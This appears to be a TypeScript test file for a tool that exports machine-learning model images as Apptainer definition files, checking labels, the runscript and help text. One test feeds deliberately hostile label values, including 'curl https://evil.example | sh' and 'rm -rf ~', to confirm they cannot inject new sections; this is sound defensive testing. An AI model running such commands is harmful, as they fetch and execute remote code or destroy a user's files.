import * as assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { apptainerDefinition } from '../../../../src/core/export/apptainer';
import { MODEL_LABELS } from '../../../../src/core/model/card';
import { SERVER_PATH } from '../../../../src/core/model/layout';
import { MODEL_RUN, modelImage, modelImageLabels } from '../../../helpers/modelImage';

const MODEL = `digits-model:${MODEL_RUN}`;

function def(labels = modelImageLabels(), image: Parameters<typeof apptainerDefinition>[0]['image'] = modelImage()): string {
  return apptainerDefinition({ imageRef: MODEL, source: { kind: 'docker-daemon' }, labels, image });
}

/** The lines of one %section, up to the next section or the end. */
function section(text: string, name: string): string[] {
  const lines = text.split('\n');
  const start = lines.indexOf(`%${name}`);
  if (start < 0) return [];
  const end = lines.findIndex((l, n) => n > start && l.startsWith('%'));
  return lines.slice(start + 1, end < 0 ? undefined : end).filter((l) => l !== '');
}

describe('mlc export apptainer of a model image', () => {
  it("carries the model's labels into %labels, each on its line", () => {
    const labels = section(def(), 'labels');
    assert.ok(labels.includes('    org.mlcontainers.role model'), labels.join('\n'));
    assert.ok(labels.includes(`    ${MODEL_LABELS.run} ${MODEL_RUN}`));
    assert.ok(labels.some((l) => l.startsWith(`    ${MODEL_LABELS.artifacts} [{"name":"model.pt"`)));
  });

  it('keeps hostile model label values on their line: no section of theirs, no extra key', () => {
    const labels = {
      ...modelImageLabels(),
      [MODEL_LABELS.params]: '{"lr":"0.1\n%post\n    curl https://evil.example | sh"}',
      [MODEL_LABELS.headline]: 'acc\r%runscript\nrm -rf ~',
      [`${MODEL_LABELS.run}\n%setup`]: 'x',
    };
    const text = def(labels);
    const sections = text.split('\n').filter((l) => l.startsWith('%'));
    assert.deepEqual(sections, ['%labels', '%runscript', '%help']);
    for (const line of section(text, 'labels')) assert.match(line, /^ {4}[A-Za-z0-9._-]+ [^\r\n]*$/);
    assert.ok(section(text, 'labels').includes(`    ${MODEL_LABELS.params} {"lr":"0.1 %post     curl https://evil.example | sh"}`));
  });

  it('serves with `apptainer run` on 127.0.0.1, named as mlc serve names it, the token from the environment', () => {
    const text = def();
    const runscript = section(text, 'runscript');
    assert.deepEqual(runscript, [
      `    if command -v python3 >/dev/null 2>&1; then exec python3 ${SERVER_PATH} --name 'digits-model' "$@"; fi`,
      `    exec python ${SERVER_PATH} --name 'digits-model' "$@"`,
    ]);
    assert.doesNotMatch(text, /0\.0\.0\.0/, "the image's CMD listens on every address; the host's network is shared here");
    const help = section(text, 'help').join('\n');
    assert.match(help, new RegExp(`^ {4}Model image ${MODEL} of run ${MODEL_RUN} from commit 3f2a1bc9d0e8, exported by ML Containers`));
    assert.match(help, /APPTAINERENV_MLC_SERVE_TOKEN=<a secret> apptainer run \[--nv\] IMAGE\.sif/);
    assert.match(help, /importing load and predict from \/opt\/mlc\/predict\.py/);
    assert.doesNotMatch(help, /train\.py/);
  });

  it('adds no %runscript to a model saved without a server, and says so', () => {
    const text = def(modelImageLabels(), modelImage({ cmd: ['python', 'train.py'] }));
    assert.deepEqual(section(text, 'runscript'), []);
    assert.match(section(text, 'help').join('\n'), /carries no server \(saved without a predict\.py\)/);
    // A Slurm task's .def is made from the labels alone: it claims neither.
    const unknown = apptainerDefinition({ imageRef: MODEL, source: { kind: 'docker-daemon' }, labels: modelImageLabels() });
    assert.deepEqual(section(unknown, 'runscript'), []);
    assert.doesNotMatch(unknown, /carries no server/);
  });

  it("the %runscript, run by sh with serve.py, listens on 127.0.0.1 and takes the model's name and the run's arguments", async function () {
    if (spawnSync('python3', ['--version']).status !== 0) this.skip();
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mlc-runscript-'));
    try {
      fs.writeFileSync(
        path.join(dir, 'predict.py'),
        'def load(model_dir):\n    return None\n\ndef predict(model, inputs):\n    return inputs\n',
      );
      const serve = path.resolve(__dirname, '../../../../templates/model/serve.py');
      const body = section(def(), 'runscript')
        .map((l) => l.trim().replaceAll(SERVER_PATH, serve))
        .join('\n');
      const child = spawn('sh', ['-c', body, 'runscript', '--port', '0', '--predict', path.join(dir, 'predict.py'), '--model-dir', dir], {
        env: { PATH: process.env.PATH, MLC_SERVE_TOKEN: 'not-a-real-token' },
      });
      const said = await new Promise<string>((resolve, reject) => {
        let err = '';
        child.stderr.on('data', (d: Buffer) => {
          err += d.toString();
          if (/loaded: ready/.test(err)) resolve(err);
        });
        child.on('exit', () => reject(new Error(`the server exited: ${err}`)));
      }).finally(() => child.kill());
      assert.match(said, /^serving digits-model \(version [^)]*\) on 127\.0\.0\.1:\d+/m);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
